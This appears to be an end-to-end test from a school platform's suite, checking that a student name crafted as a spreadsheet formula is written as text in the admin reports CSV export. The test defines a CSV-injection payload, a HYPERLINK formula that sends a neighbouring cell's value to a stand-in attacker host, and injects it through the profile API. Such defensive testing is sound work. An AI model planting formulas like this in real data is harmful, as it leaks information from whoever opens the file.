// Issue 19 item 10: a student's name is a spreadsheet formula (CSV injection). The reports' export must
// write it as text, so opening the file in Excel or LibreOffice never runs it.
import { readFile } from 'node:fs/promises';
import { expect, signInAndWaitHome, test } from './helpers';
import { api, freshStudent, passwordSession } from './learning-helpers';

const FORMULA = '=HYPERLINK("https://atacante.example/?d="&B2,"Ver certificado")';

test('a student named like a formula is exported as text in the reports CSV', async ({ page }) => {
  const student = await freshStudent('Aluna Planilha');
  // The student renames herself through the API, as an attacker would.
  const session = await passwordSession(student.email);
  await api(`/rest/v1/profiles?id=eq.${student.id}`, { method: 'PATCH', token: session.access_token, body: JSON.stringify({ name: FORMULA }) });

  await signInAndWaitHome(page, 'admin@escola-demo.com.br');
  await page.goto('/admin/reports');
  await expect(page.getByRole('tabpanel').getByRole('row').first()).toBeVisible();
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Exportar CSV' }).click()]);
  const csv = (await readFile((await download.path())!, 'utf8')).replace(/^\ufeff/, '');
  const line = csv.split(/\r\n/).find((l) => l.includes(student.email));
  expect(line).toBeDefined();
  // The cell starts with an apostrophe inside its quotes: text, not a formula.
  expect(line!.startsWith(`"'=HYPERLINK(`)).toBe(true);
  for (const row of csv.split(/\r\n/)) for (const cell of row.split(';')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
});
